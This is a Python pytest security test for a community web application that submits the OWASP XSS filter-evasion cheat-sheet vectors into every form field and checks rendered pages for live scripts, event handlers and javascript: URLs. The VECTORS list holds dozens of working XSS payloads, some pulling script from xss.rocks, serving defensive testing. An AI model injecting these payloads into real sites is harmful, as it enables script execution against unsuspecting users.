"""XSS: the OWASP filter-evasion vectors through every text field of every form the site
shows (found on its pages, as each role sees them), then every page checked in the rendered
HTML with BeautifulSoup: nothing from a payload becomes live. No <script> but the site's own,
no on* attribute, no javascript:/vbscript:/data: URL, no <svg>, <math>, <iframe>, <object>,
<embed>, <base>, <meta> or <style> that a payload made, no style attribute from a payload."""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import Any

import pytest
from bs4 import BeautifulSoup
from sqlalchemy import delete
from starlette.testclient import TestClient

from grassroots.db import Database
from grassroots.security import RateLimitEvent
from moderation.models import LastPost
from tests.security.conftest import (
    MORE_FORM_PAGES,
    ROLES,
    Form,
    Scene,
    SceneTemplate,
    discover_forms,
    token_of,
)
from tests.security.test_access import EXPECTED


# What renders a payload is the same on both backends: this module runs on SQLite only, to
# keep the security suite within its few minutes.
@pytest.fixture
def scene_template(sqlite_scene: SceneTemplate) -> SceneTemplate:
    return sqlite_scene


# From the OWASP XSS Filter Evasion Cheat Sheet; each names XSS, so that what a payload made
# can be told from the site's own markup.
VECTORS = [
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<script>alert('XSS')</script>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert('XSS')\">xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('XSS')\">",
    "<IMG SRC= onmouseover=\"alert('XSS')\">",
    "<IMG onmouseover=\"alert('XSS')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',  # noqa: E501
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",  # noqa: E501
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",  # noqa: E501
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="https://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=//xss.rocks/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert('XSS')</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://xss.rocks/css/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',  # noqa: E501
    "<a href=\"javascript:alert('XSS')\">XSS</a>",
    "[XSS](javascript:alert('XSS'))",
    "[XSS](JaVaScRiPt:alert('XSS'))",
    "![XSS](javascript:alert('XSS'))",
    "[XSS](data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=)",
    "[XSS](vbscript:msgbox('XSS'))",
    "<http://example.com/\" onmouseover=\"alert('XSS')>",
    "[XSS](http://example.com/\" onmouseover=\"alert('XSS'))",
    "\"><script>alert('XSS')</script>",
    "'><img src=x onerror=alert('XSS')>",
    "</textarea><script>alert('XSS')</script>",
    "<details open ontoggle=alert('XSS')>",
    "<form action=\"javascript:alert('XSS')\"><button>XSS</button></form>",
    "<button formaction=\"javascript:alert('XSS')\">XSS</button>",
    "<video><source onerror=\"alert('XSS')\"></video>",
    "<x onpointerover=alert('XSS')>XSS</x>",
]
MARKER = "xss"
# Elements the site's templates never make from what was typed (the results chart's <svg> has
# no text of anyone's); a payload's own <form>, <button> or <details> is caught by its URL or
# on* attribute instead.
LIVE_TAGS = {"svg", "math", "iframe", "frame", "frameset", "object", "embed", "base", "meta", "style",
             "link", "bgsound", "applet", "video", "audio", "source"}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "background", "dynsrc", "lowsrc",
                  "poster", "xlink:href", "srcset", "content", "style"}  # fmt: skip
BAD_SCHEMES = re.compile(r"^(javascript|vbscript|data|livescript):", re.IGNORECASE)
SKIPPED_ACTIONS = ("/logout", "/me/password", "/me/sessions/end-others", "/delete", "/withdraw",
                   "/admin/admins", "/admin/roles", "/unverify", "/step", "/advance")  # fmt: skip


def live_payload(html: str) -> list[str]:
    """What of a payload became live on this page, described."""
    problems = []
    for node in BeautifulSoup(html, "html.parser").find_all(True):
        attributes = {
            str(k).lower(): " ".join(v) if isinstance(v, list) else str(v) for k, v in node.attrs.items()
        }
        for name, value in attributes.items():
            if name.startswith("on"):
                problems.append(f"<{node.name} {name}=…>")
            elif name in URL_ATTRIBUTES and BAD_SCHEMES.match(re.sub(r"[\x00-\x20]", "", value)):
                problems.append(f"<{node.name} {name}={value[:40]!r}>")
            elif name == "style":
                problems.append(f"<{node.name} style={value[:40]!r}>")  # the site writes none
        if node.name == "script" and not str(node.get("src", "")).startswith("/static/"):
            problems.append(f"<script> {node.get_text()[:40]!r}")
        elif node.name in LIVE_TAGS and MARKER in (" ".join(attributes.values()) + node.get_text()).lower():
            problems.append(f"<{node.name}> from a payload: {str(node)[:60]!r}")
    return problems


def test_the_judge_sees_live_payloads() -> None:
    assert live_payload("<p>&lt;script&gt;alert('XSS')&lt;/script&gt;</p>") == []
    for vector in (
        "<script>alert('XSS')</script>",
        "<svg/onload=alert('XSS')>",
        "<a href='javascript:x'>a</a>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    ):
        assert live_payload(vector), vector


def chunks(limit: int = 110) -> list[str]:
    """The vectors packed into pieces that fit a short field; long ones alone."""
    out, current = [], ""
    for vector in VECTORS:
        if current and len(current) + 1 + len(vector) > limit:
            out.append(current)
            current = ""
        current = f"{current} {vector}".strip()
    return [*out, current]


def _forget_limits(database: Database) -> None:
    """Rate limits and posting intervals would stop the flood of forms; they are tested apart."""
    with database.writing() as db:
        db.execute(delete(RateLimitEvent))
        db.execute(delete(LastPost))


# Where a person's one line of text shows most: every vector goes through each of these alone.
THOROUGH = ("/forum/{board}/new", "/me/profile", "/mailbox/write", "/elections/new", "/disclosure/new")


# Fields checked against a strict pattern (an address, a user name, a date) get a valid value:
# a payload there is refused before it is stored, which the fuzzer covers.
STRICT = ("slug", "username", "email", "code", "holidays", "post_id", "deadline", "roll", "date")
_unique = iter(range(10**6))


def _send(client: TestClient, token: str, form: Form, long_text: str, line: str) -> Any:
    kinds = {name: kind for name, kind, _value in form.fields}
    defaults = form.defaults()
    typed = {}
    for name in form.typed:
        if any(word in name for word in STRICT):
            typed[name] = f"xss{next(_unique)}x" if name in ("slug", "username") else defaults.get(name, "")
        else:
            typed[name] = long_text if kinds[name] == "textarea" else line
    response = client.post(form.action, data={**defaults, **typed, "csrf_token": token})
    if response.status_code == 400:  # too long for a name, say: the first few vectors' worth
        short = {name: value[:38] if value == line else value for name, value in typed.items()}
        response = client.post(form.action, data={**defaults, **short, "csrf_token": token})
    return response


def test_no_payload_comes_alive_anywhere(
    as_role: Callable[[str], TestClient], scene: Scene, database: Database
) -> None:
    clients = {role: as_role(role) for role in ROLES if role != "other_secretary"}
    pages = [scene.fill(c[0].path) for (m, _p), c in EXPECTED.items() if m == "GET"]
    pages += [scene.fill(p) for p in MORE_FORM_PAGES]
    forms = [
        f
        for f in discover_forms(clients, pages)
        if f.typed and not f.action.split("?")[0].endswith(SKIPPED_ACTIONS)
    ]
    assert len(forms) >= 25, [f.action for f in forms]
    problems: list[str] = []
    sent: set[str] = set()
    tokens = {role: token_of(client) for role, client in clients.items()}
    whole, lines = "\n\n".join(VECTORS), chunks()
    thorough = [scene.fill(p) for p in THOROUGH]
    for number, form in enumerate(forms):
        # Text areas take every vector at once; one-line fields a share of them each, in turn,
        # and on the forms of THOROUGH every share.
        shares = lines if form.action.split("?")[0] in thorough else [lines[number % len(lines)]]
        for line in shares:
            _forget_limits(database)
            response = _send(clients[form.role], tokens[form.role], form, whole, line)
            if response.status_code >= 500:
                problems.append(f"{form.role} POST {form.action}: {response.status_code}")
            elif response.status_code < 400:
                sent.add(form.action)
                if response.status_code == 303:  # where the new text shows, as its writer sees it
                    response = clients[form.role].get(response.headers["location"])
            for found in live_payload(response.text):
                problems.append(f"{form.role} POST {form.action} answered with {found}")
    for role in ("anonymous", "resident", "admin"):
        client = clients[role]
        for path in pages + ["/forum/search?q=XSS", "/moderation/?place=all"]:
            response = client.get(path)
            if "text/html" in response.headers.get("content-type", ""):
                problems += [f"{role} GET {path}: {found}" for found in live_payload(response.text)]
    assert not problems, f"{len(problems)} live payloads:\n" + "\n".join(sorted(set(problems)))
    assert len(sent) >= 20, f"too few forms took the payloads: {sorted(sent)}"
